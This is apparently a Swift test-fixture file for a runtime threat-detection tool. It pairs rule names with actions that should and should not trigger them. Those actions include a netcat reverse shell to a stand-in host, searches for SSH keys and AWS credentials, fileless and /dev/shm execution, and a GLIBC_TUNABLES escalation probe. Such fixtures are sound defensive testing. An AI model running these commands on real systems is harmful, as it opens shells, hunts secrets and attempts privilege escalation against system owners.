extension PublicAct {
    /// Programs that are run.
    static let programs: [PublicAct] = [
        .host(
            "Run shell untrusted", action: "RunShellUntrusted", [.process(.init("httpd")), .shell("ls >/dev/null")],
            butNot: [.process(.init("worker")), .shell("ls >/dev/null")]),
        .host(
            "System user interactive", action: "SystemUserInteractive", [.run(.init("login", user: 1))],
            butNot: [.run(.init("login", user: 0))]),
        .container(
            "Netcat Remote Code Execution in Container", action: "NetcatRemoteCodeExecutionInContainer",
            [.run(.init("nc", "-e", "/bin/sh", "example.com", "22"))], butNot: [.run(.init("nc", "example.com", "22"))]),
        .container(
            "Search Private Keys or Passwords", [.shell("/bin/find /home -name id_rsa")], butNot: [.shell("/bin/find /home -name id_card")]),
        .container(
            "Remove Bulk Data from Disk", [.shell("echo >/tmp/data; /bin/shred /tmp/data")],
            butNot: [.shell("echo >/tmp/data; /bin/rm /tmp/data")]),
        .containerOnly(
            "Debugfs Launched in Privileged Container", action: "DebugfsLaunchedInPrivilegedContainer",
            [.call("unshare", "n:CLONE_NEWNS|CLONE_NEWUSER"), .run(.init("debugfs", "-V"))]),
        .host(
            "Find AWS Credentials", action: "FindAwsCredentials", [.shell("find /tmp -maxdepth 1 -iname .aws/credentials 2>/dev/null")],
            butNot: [.shell("find /tmp -maxdepth 1 -iname credentials")]),
        .host(
            "Execution from /dev/shm", action: "ExecutionFromDevShm",
            [
                .shell("printf '#!/bin/sh\\ntrue\\n' >/dev/shm/act.sh; chmod 755 /dev/shm/act.sh"),
                .shell("sh -c /dev/shm/act.sh || test $? = 126; rm /dev/shm/act.sh"),
            ],
            butNot: [.shell("printf '#!/bin/sh\\ntrue\\n' >/tmp/act.sh; chmod 755 /tmp/act.sh; sh -c /tmp/act.sh")]),
        .container(
            "Drop and execute new binary in container", [.run(.init("dropped"))], butNot: [.shell("/bin/busybox true; exit 0")]),
        .host(
            "Fileless execution via memfd_create", [.run(.init("payload", path: Step.Image.memory))], butNot: [.run(.init("payload"))]),
        .host("Schedule Cron Jobs", action: "ScheduleCronJobs", [.run(.init("crontab", "-l"))], butNot: [.run(.init("crontable", "-l"))]),
        .host(
            "DB program spawned process", action: "DbProgramSpawnedProcess", [.process(.init("mysqld")), .run(.init("ls"))],
            butNot: [.process(.init("worker")), .run(.init("ls"))]),
        .host(
            "Program run with disallowed http proxy env", action: "ProgramRunWithDisallowedHttpProxyEnv",
            [.run(.init("curl", "http://example.com", environment: ["HTTP_PROXY": "http://my.http.proxy.com "]))],
            butNot: [.run(.init("curl", "http://example.com"))]),
        .host("User mgmt binaries", action: "UserMgmtBinaries", [.process(.init("vipw")), .run(.init("ls"))], butNot: [.run(.init("vi"))]),
        .containerOnly("Launch Package Management Process in Container", [.run(.init("apt-get", "install", "nothing"))]),
        .containerOnly("Launch Suspicious Network Tool in Container", [.run(.init("nmap", "203.0.113.9"))]),
        .host("Launch Suspicious Network Tool on Host", [.run(.init("nmap", "203.0.113.9"))], butNot: [.run(.init("map", "203.0.113.9"))]),
        .containerOnly(
            "Launch Remote File Copy Tools in Container", action: "LaunchRemoteFileCopyToolsInContainer", [.run(.init("scp"))]),
        .container(
            "Mount Launched in Privileged Container", action: "MountLaunchedInPrivilegedContainer",
            [.call("unshare", "n:CLONE_NEWNS|CLONE_NEWUSER"), .run(.init("mount", "-o"))], butNot: [.run(.init("mount"))]),
        .containerOnly(
            "Launch Ingress Remote File Copy Tools in Container", action: "LaunchIngressRemoteFileCopyToolsInContainer",
            [.run(.init("wget", "-V"))]),
        .host(
            "Potential Local Privilege Escalation via Environment Variables Misuse",
            action: "PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse",
            [.shell("GLIBC_TUNABLES=glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2 sh -c id >/dev/null")],
            butNot: [.shell("OTHER_TUNABLES=1 sh -c id >/dev/null")]),
    ]
}
